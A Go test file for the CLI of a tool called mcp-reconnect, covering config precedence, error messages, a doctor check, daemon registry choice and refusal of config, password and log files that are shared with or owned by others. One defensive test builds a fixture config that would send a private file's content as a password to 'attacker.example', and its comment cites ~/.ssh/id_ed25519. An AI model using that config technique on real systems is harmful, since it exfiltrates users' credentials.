package main

import (
	"encoding/json"
	"github.com/mcp-reconnect/mcp-reconnect/internal/metrics"
	"github.com/mcp-reconnect/mcp-reconnect/internal/opencode/fakeopencode"
	"github.com/mcp-reconnect/mcp-reconnect/internal/reconnect"
	"github.com/mcp-reconnect/mcp-reconnect/internal/registry"
	"github.com/mcp-reconnect/mcp-reconnect/internal/statusapi"
	"github.com/spf13/pflag"
	"iter"
	"log/slog"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

func writeConfig(t *testing.T, body string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "config.toml")
	if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// flags > env > file > defaults.
func TestConfigPrecedence(t *testing.T) {
	path := writeConfig(t, `
url = "http://127.0.0.1:7000"
initial-delay = "2s"
max-delay = "40s"
max-concurrent = 4
jitter = 0.1
directory = ["/a", "/b c"]
`)
	var f watchFlags
	fs := pflag.NewFlagSet("watch", pflag.ContinueOnError)
	f.register(fs)
	t.Setenv("MCP_RECONNECT_MAX_DELAY", "50s")
	if err := fs.Parse([]string{"--config", path, "--initial-delay", "3s"}); err != nil {
		t.Fatal(err)
	}
	if err := f.load(fs); err != nil {
		t.Fatal(err)
	}
	if f.engine.Backoff.Initial != 3*time.Second { // flag
		t.Errorf("initial-delay = %v, want the flag's 3s", f.engine.Backoff.Initial)
	}
	if f.engine.Backoff.Max != 50*time.Second { // env over file
		t.Errorf("max-delay = %v, want the env's 50s", f.engine.Backoff.Max)
	}
	if len(f.urls) != 1 || f.urls[0] != "http://127.0.0.1:7000" || f.engine.MaxConcurrent != 4 || f.engine.Backoff.Jitter != 0.1 || len(f.directories) != 2 { // file
		t.Errorf("from the file: %+v", f)
	}
	if f.engine.IdleInterval != 30*time.Second { // default
		t.Errorf("idle-interval = %v, want the default", f.engine.IdleInterval)
	}
}

func TestConfigErrorsNameTheKey(t *testing.T) {
	cases := map[string]string{
		`nope = 1`:                `unknown key "nope"`,
		`max-concurrent = "many"`: `key "max-concurrent"`,
		`initial-delay = "soon"`:  `key "initial-delay"`,
		`jitter = [0.1, 0.2]`:     `key "jitter" takes one value`,
		"[[opencode]]\nurl = \"http://127.0.0.1:1\"\npassword = \"x\"": `put the password in a file named by password-file`,
		"[[opencode]]\nurl = \"http://127.0.0.1:1\"\nport = 3":         `unknown key "port"`,
		"[[opencode]]\nusername = \"u\"":                               `url is missing`,
		`this is not toml`:                                             `config file`,
		`password = [1]`:                                               `key "password" takes one value`,
	}
	for body, want := range cases {
		path := writeConfig(t, body)
		code, _, errOut := runCLI(t, "watch", "--config", path)
		if code == 0 || !strings.Contains(errOut, want) || !strings.Contains(errOut, path) {
			t.Errorf("%q: exit %d, stderr %q, want it to name %q and the file", body, code, errOut, want)
		}
	}
	code, _, errOut := runCLI(t, "watch", "--config", "/no/such/config.toml")
	if code == 0 || !strings.Contains(errOut, "/no/such/config.toml") {
		t.Errorf("a missing --config file: exit %d, %q", code, errOut)
	}
	path := writeConfig(t, `password = "s3cret-in-file"
jitter = "x"`)
	_, out, errOut := runCLI(t, "watch", "--config", path)
	if strings.Contains(out+errOut, "s3cret-in-file") {
		t.Error("a password from the config file was printed")
	}
}

// doctor exits non-zero and names the route when OpenCode's /doc lacks one.
func TestDoctorNamesMissingRoute(t *testing.T) {
	raw, err := os.ReadFile("../../internal/doctor/testdata/opencode-1.18.34-openapi.json")
	if err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	_ = json.Unmarshal(raw, &doc)
	delete(doc["paths"].(map[string]any), "/config")
	b, _ := json.Marshal(doc)
	fake := fakeopencode.New(nil)
	fake.SetDoc(b)
	hs := httptest.NewServer(fake)
	defer hs.Close()
	code, out, _ := runCLI(t, "doctor", "--url", hs.URL, "--status-addr", "", "--config", "")
	if code == 0 || !strings.Contains(out, "GET /config") {
		t.Fatalf("exit %d, output:\n%s", code, out)
	}
	fake.SetDoc(raw)
	if code, out, _ := runCLI(t, "doctor", "--url", hs.URL, "--status-addr", "", "--config", ""); code != 0 {
		t.Fatalf("all well: exit %d, output:\n%s", code, out)
	}
}

// A config file others can write is refused not only when it holds a
// top-level password. An [[opencode]] table pairs a url with a
// password-file, so whoever can write the config can send the content of
// any private file of the user's (password-file = "~/.ssh/id_ed25519")
// as the basic-auth password to a server of their choosing, or arm a
// directory of theirs in the user's OpenCode (rule 13: only the user may
// cause that). As ssh refuses a config others can write, watch should.
func TestConfigOthersCanWriteIsRefusedWithPasswordFiles(t *testing.T) {
	dir := t.TempDir()
	pw := filepath.Join(dir, "work.pw")
	if err := os.WriteFile(pw, []byte("work-secret\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg := writeConfig(t, "[[opencode]]\nurl = \"http://attacker.example:80\"\npassword-file = \""+pw+"\"\n")
	if err := os.Chmod(cfg, 0o666); err != nil {
		t.Fatal(err)
	}
	var f watchFlags
	fs := newFlagSet(&f)
	if err := fs.Parse([]string{"--config", cfg}); err != nil {
		t.Fatal(err)
	}
	if err := f.load(fs); err != nil {
		return // refused: fine
	}
	got, err := f.servers(fs, slog.New(slog.DiscardHandler))
	if err == nil {
		t.Fatalf("a config file every user can write (mode 0666) sends %s's content to %s", pw, got[0].URL)
	}
}

func newFlagSet(f *watchFlags) *pflag.FlagSet {
	fs := pflag.NewFlagSet("watch", pflag.ContinueOnError)
	f.register(fs)
	return fs
}

// giveAway chowns p to nobody, or skips when this test cannot (not root).
func giveAway(t *testing.T, p string) int {
	t.Helper()
	if os.Getuid() != 0 {
		if os.Getenv("CI") != "" {
			t.Fatal("needs root to give the file to another user: CI runs as root")
		}
		t.Skip("needs root to give the file to another user")
	}
	const other = 65534 // nobody
	if err := os.Chown(p, other, other); err != nil {
		t.Fatal(err)
	}
	return other
}

// A config file owned by another user is refused whatever its mode, as
// ssh refuses one: its owner can change it at any time (chmod is the
// owner's), and it names the OpenCode URL the password goes to and the
// directories whose MCP servers OpenCode will start (rule 13: only the
// user may cause that).
func TestConfigFileOfAnotherUserIsRefused(t *testing.T) {
	p := filepath.Join(t.TempDir(), "config.toml")
	if err := os.WriteFile(p, []byte("url = \"http://127.0.0.1:4096\"\ndirectory = [\"/home/victim/project\"]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	other := giveAway(t, p)
	var f watchFlags
	fs := pflag.NewFlagSet("watch", pflag.ContinueOnError)
	f.register(fs)
	_, err := loadConfigFile(p, true)
	if err == nil || !strings.Contains(err.Error(), p) || !strings.Contains(err.Error(), "another user") {
		t.Fatalf("loadConfigFile(%s owned by uid %d, mode 0644) = %v: another user's config file is used (directories %v)", p, other, err, f.directories)
	}
}

// A password file owned by another user is refused too, even 0600: its
// owner chooses the password, and with it which server is trusted.
func TestPasswordFileOfAnotherUserIsRefused(t *testing.T) {
	pw := filepath.Join(t.TempDir(), "work.pw")
	if err := os.WriteFile(pw, []byte("their-secret\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	giveAway(t, pw)
	cfg := writeConfig(t, "[[opencode]]\nurl = \"http://127.0.0.1:5001\"\npassword-file = \""+pw+"\"\n")
	f, fs := loadFlags(t, "--config", cfg)
	_, err := f.servers(fs, slog.New(slog.DiscardHandler))
	if err == nil || !strings.Contains(err.Error(), pw) || !strings.Contains(err.Error(), "another user") || strings.Contains(err.Error(), "their-secret") {
		t.Fatalf("servers with a password file of another user: %v", err)
	}
}

// A config file holding a password that others can read is refused with
// the fix; a private one, or one without a password, is fine.
func TestConfigWithPasswordMustBePrivate(t *testing.T) {
	for _, mode := range []os.FileMode{0o644, 0o640, 0o604, 0o660} {
		path := writeConfig(t, `password = "s3cret-pw"`)
		_ = os.Chmod(path, mode)
		code, out, errOut := runCLI(t, "watch", "--config", path, "--status-addr", "", "--url", "http://127.0.0.1:1", "--jitter", "7")
		if code == 0 || !strings.Contains(errOut, "chmod 600 "+path) || strings.Contains(out+errOut, "s3cret-pw") {
			t.Errorf("mode %04o: exit %d, stderr %q", mode, code, errOut)
		}
	}
	for body, mode := range map[string]os.FileMode{`password = "x"`: 0o600, `url = "http://127.0.0.1:1"`: 0o644} {
		path := writeConfig(t, body+"\njitter = 7")
		_ = os.Chmod(path, mode)
		// jitter 7 fails validation after the file is read: getting that
		// error proves the file itself was accepted.
		if _, _, errOut := runCLI(t, "watch", "--config", path); !strings.Contains(errOut, "jitter") {
			t.Errorf("%q at %04o: stderr %q, want the file accepted", body, mode, errOut)
		}
	}
}

// A log file that already exists with loose permissions is made private.
func TestExistingLogFileMadePrivate(t *testing.T) {
	p := filepath.Join(t.TempDir(), "run.log")
	if err := os.WriteFile(p, []byte("old\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	f := &watchFlags{logFile: p, logLevel: "info", logFormat: "text"}
	_, closeLog, err := f.logger(os.Stderr)
	if err != nil {
		t.Fatal(err)
	}
	closeLog()
	if fi, _ := os.Stat(p); fi.Mode().Perm() != 0o600 {
		t.Fatalf("log file mode %v, want 0600", fi.Mode().Perm())
	}
}

// fakeDaemon is a status API with its own token, registered under pid.
type fakeDaemon struct {
	src   *countingSource
	entry registry.Entry
}

type countingSource struct {
	idleSource
	calls int
	// armed are the directories its status shows; dirs those it was
	// asked to reconnect.
	armed, dirs []string
}

func (c *countingSource) Directories() iter.Seq[reconnect.DirSnapshot] {
	return func(yield func(reconnect.DirSnapshot) bool) {
		for _, d := range c.armed {
			if !yield(reconnect.DirSnapshot{Directory: d, ArmedBy: "session.updated"}) {
				return
			}
		}
	}
}

// idleSource is a watched server at url, running, undetected, with no
// directories.
type idleSource struct{ url string }

func (s idleSource) Summary() reconnect.Snapshot { return reconnect.Snapshot{URL: s.url} }
func (idleSource) Directories() iter.Seq[reconnect.DirSnapshot] {
	return func(func(reconnect.DirSnapshot) bool) {}
}
func (idleSource) Alive(time.Duration) error     { return nil }
func (s idleSource) CurrentURL() string          { return s.url }
func (idleSource) Stream() reconnect.StreamState { return reconnect.StreamState{} }
func (idleSource) Generation() string            { return "" }
func (idleSource) ServiceFile() string           { return "" }
func (idleSource) Service() *statusapi.Service   { return nil }

func (c *countingSource) Arm(string, string) error { return nil }

func (c *countingSource) Reconnect(dir string, _ []string) (reconnect.ReconnectResult, error) {
	c.calls++
	c.dirs = append(c.dirs, dir)
	return reconnect.ReconnectResult{URL: c.url, Directories: []string{dir}}, nil
}

func startFakeDaemon(t *testing.T, pid int, ocURL string) *fakeDaemon {
	t.Helper()
	token, _ := registry.NewToken()
	src := &countingSource{idleSource: idleSource{url: ocURL}}
	s := &statusapi.API{Sources: []statusapi.Source{src}, Broker: statusapi.NewBroker(), Metrics: metrics.NewSet(), Token: token}
	hs := httptest.NewServer(s.Handler())
	t.Cleanup(func() { s.Broker.Close(); hs.Close() })
	e := registry.Entry{PID: pid, URLs: []string{ocURL}, StatusAddr: strings.TrimPrefix(hs.URL, "http://"), Token: token, Started: time.Now()}
	reg, err := registry.Default()
	if err != nil {
		t.Fatal(err)
	}
	remove, err := reg.Register(e)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(remove)
	return &fakeDaemon{src: src, entry: e}
}

// otherProcess is a live process standing in for a second daemon's pid.
func otherProcess(t *testing.T) *exec.Cmd {
	t.Helper()
	cmd := exec.Command("sleep", "60")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	return cmd
}

// Two daemons at once: status lists both, reconnect refuses to guess and
// --url (or --status-addr, or --all) picks. A daemon killed with SIGKILL
// leaves a file the next status ignores and removes.
func TestRegistryChoosesDaemons(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	if code, _, errOut := runCLI(t, "status"); code == 0 || !strings.Contains(errOut, "no mcp-reconnect daemon is running") || !strings.Contains(errOut, "mcp-reconnect watch") {
		t.Fatalf("no daemon: exit %d, %q", code, errOut)
	}
	a := startFakeDaemon(t, os.Getpid(), "http://127.0.0.1:4101")
	other := otherProcess(t)
	b := startFakeDaemon(t, other.Process.Pid, "http://127.0.0.1:4102")

	code, out, errOut := runCLI(t, "status")
	if code != 0 || !strings.Contains(out, "http://127.0.0.1:4101") || !strings.Contains(out, "http://127.0.0.1:4102") {
		t.Fatalf("status with two daemons: exit %d\n%s%s", code, out, errOut)
	}
	code, out, _ = runCLI(t, "status", "--json")
	var js struct {
		Daemons []struct {
			PID    int               `json:"pid"`
			Status *statusapi.Status `json:"status"`
		} `json:"daemons"`
	}
	if err := json.Unmarshal([]byte(out), &js); code != 0 || err != nil || len(js.Daemons) != 2 || js.Daemons[1].Status == nil {
		t.Fatalf("status --json: exit %d, %v\n%s", code, err, out)
	}
	if strings.Contains(out, a.entry.Token) || strings.Contains(out, b.entry.Token) {
		t.Fatal("status --json shows a token")
	}

	code, _, errOut = runCLI(t, "reconnect", "--directory", "/p")
	if code == 0 || !strings.Contains(errOut, "several") || !strings.Contains(errOut, "--url http://127.0.0.1:4102") || a.src.calls+b.src.calls != 0 {
		t.Fatalf("reconnect with two daemons: exit %d, %q, calls %d/%d", code, errOut, a.src.calls, b.src.calls)
	}
	t.Setenv("OPENCODE_URL", "http://127.0.0.1:4101") // the environment does not pick
	if code, _, _ := runCLI(t, "reconnect"); code == 0 {
		t.Fatal("$OPENCODE_URL picked a daemon")
	}
	code, out, errOut = runCLI(t, "reconnect", "--url", "http://127.0.0.1:4102/", "--directory", "/p")
	if code != 0 || b.src.calls != 1 || a.src.calls != 0 || !strings.Contains(out, "reconnect scheduled: http://127.0.0.1:4102 /p") {
		t.Fatalf("reconnect --url: exit %d, %q %q, calls %d/%d", code, out, errOut, a.src.calls, b.src.calls)
	}
	if code, _, errOut := runCLI(t, "reconnect", "--status-addr", a.entry.StatusAddr, "--directory", "/p"); code != 0 || a.src.calls != 1 {
		t.Fatalf("reconnect --status-addr: exit %d, %q", code, errOut)
	}
	a.src.armed, b.src.armed = []string{"/p"}, []string{"/p"} // --all retries a directory only where it is armed
	if code, _, errOut := runCLI(t, "reconnect", "--all", "--directory", "/p"); code != 0 || a.src.calls != 2 || b.src.calls != 2 {
		t.Fatalf("reconnect --all: exit %d, %q", code, errOut)
	}
	if code, _, errOut := runCLI(t, "reconnect", "--url", "http://127.0.0.1:9"); code == 0 || !strings.Contains(errOut, "no running mcp-reconnect daemon watches http://127.0.0.1:9") {
		t.Fatalf("reconnect --url unknown: exit %d, %q", code, errOut)
	}

	// SIGKILL the second "daemon": its file stays until the next status.
	_ = other.Process.Signal(syscall.SIGKILL)
	_ = other.Wait()
	reg, _ := registry.Default()
	stale := filepath.Join(reg.Dir, strconv.Itoa(b.entry.PID)+".json")
	if _, err := os.Stat(stale); err != nil {
		t.Fatalf("the killed daemon's file should still be there: %v", err)
	}
	code, out, _ = runCLI(t, "status")
	if code != 0 || strings.Contains(out, "4102") || !strings.Contains(out, "4101") {
		t.Fatalf("status after SIGKILL: exit %d\n%s", code, out)
	}
	if _, err := os.Stat(stale); !os.IsNotExist(err) {
		t.Fatalf("the stale file was not removed: %v", err)
	}
	// With one daemon left, reconnect needs no choice.
	if code, _, errOut := runCLI(t, "reconnect", "--directory", "/p"); code != 0 || a.src.calls != 3 {
		t.Fatalf("reconnect with one daemon: exit %d, %q", code, errOut)
	}
}

// --status-addr of a daemon that is not registered: no token, so the
// daemon refuses, and the error says why.
func TestReconnectUnregisteredAddrRefused(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	d := startFakeDaemon(t, os.Getpid(), "http://127.0.0.1:4103")
	reg, _ := registry.Default()
	_ = os.Remove(filepath.Join(reg.Dir, strconv.Itoa(os.Getpid())+".json"))
	code, _, errOut := runCLI(t, "reconnect", "--status-addr", d.entry.StatusAddr)
	if code == 0 || !strings.Contains(errOut, "401") || d.src.calls != 0 || strings.Contains(errOut, d.entry.Token) {
		t.Fatalf("exit %d, %q", code, errOut)
	}
}

// reconnect --all --directory D retries D only in the daemons (and the
// OpenCode servers) where D is already armed, and arms it nowhere:
// arming makes that OpenCode start D's MCP servers (rule 13), and --all
// names no server. --url names one, and then D is armed there.
func TestReconnectAllDirectoryArmsNothingNew(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	a := startFakeDaemon(t, os.Getpid(), "http://127.0.0.1:4111")
	other := otherProcess(t)
	b := startFakeDaemon(t, other.Process.Pid, "http://127.0.0.1:4112")
	a.src.armed = []string{"/p", "/q"}
	b.src.armed = []string{"/q"}

	code, out, errOut := runCLI(t, "reconnect", "--all", "--directory", "/p")
	if code != 0 || !slices.Equal(a.src.dirs, []string{"/p"}) || b.src.calls != 0 || !strings.Contains(out, "reconnect scheduled: http://127.0.0.1:4111 /p") {
		t.Fatalf("reconnect --all --directory /p: exit %d %q %q; asked a %v, b %v", code, out, errOut, a.src.dirs, b.src.dirs)
	}
	code, _, errOut = runCLI(t, "reconnect", "--all", "--directory", "/new")
	if code == 0 || !strings.Contains(errOut, "/new is armed in no running daemon") || !strings.Contains(errOut, "--url") || a.src.calls+b.src.calls != 1 {
		t.Fatalf("reconnect --all --directory /new: exit %d %q; asked a %v, b %v", code, errOut, a.src.dirs, b.src.dirs)
	}
	if code, _, errOut := runCLI(t, "reconnect", "--all", "--directory", "/q"); code != 0 || a.src.calls != 2 || !slices.Equal(b.src.dirs, []string{"/q"}) {
		t.Fatalf("reconnect --all --directory /q: exit %d %q; asked a %v, b %v", code, errOut, a.src.dirs, b.src.dirs)
	}
	if code, _, errOut := runCLI(t, "reconnect", "--all", "--url", "http://127.0.0.1:4112", "--directory", "/new"); code != 0 || !slices.Equal(b.src.dirs, []string{"/q", "/new"}) {
		t.Fatalf("reconnect --all --url --directory /new: exit %d %q; asked b %v", code, errOut, b.src.dirs)
	}
	if code, _, errOut := runCLI(t, "reconnect", "--all"); code != 0 || a.src.calls != 3 || b.src.calls != 3 {
		t.Fatalf("reconnect --all: exit %d %q", code, errOut)
	}
}
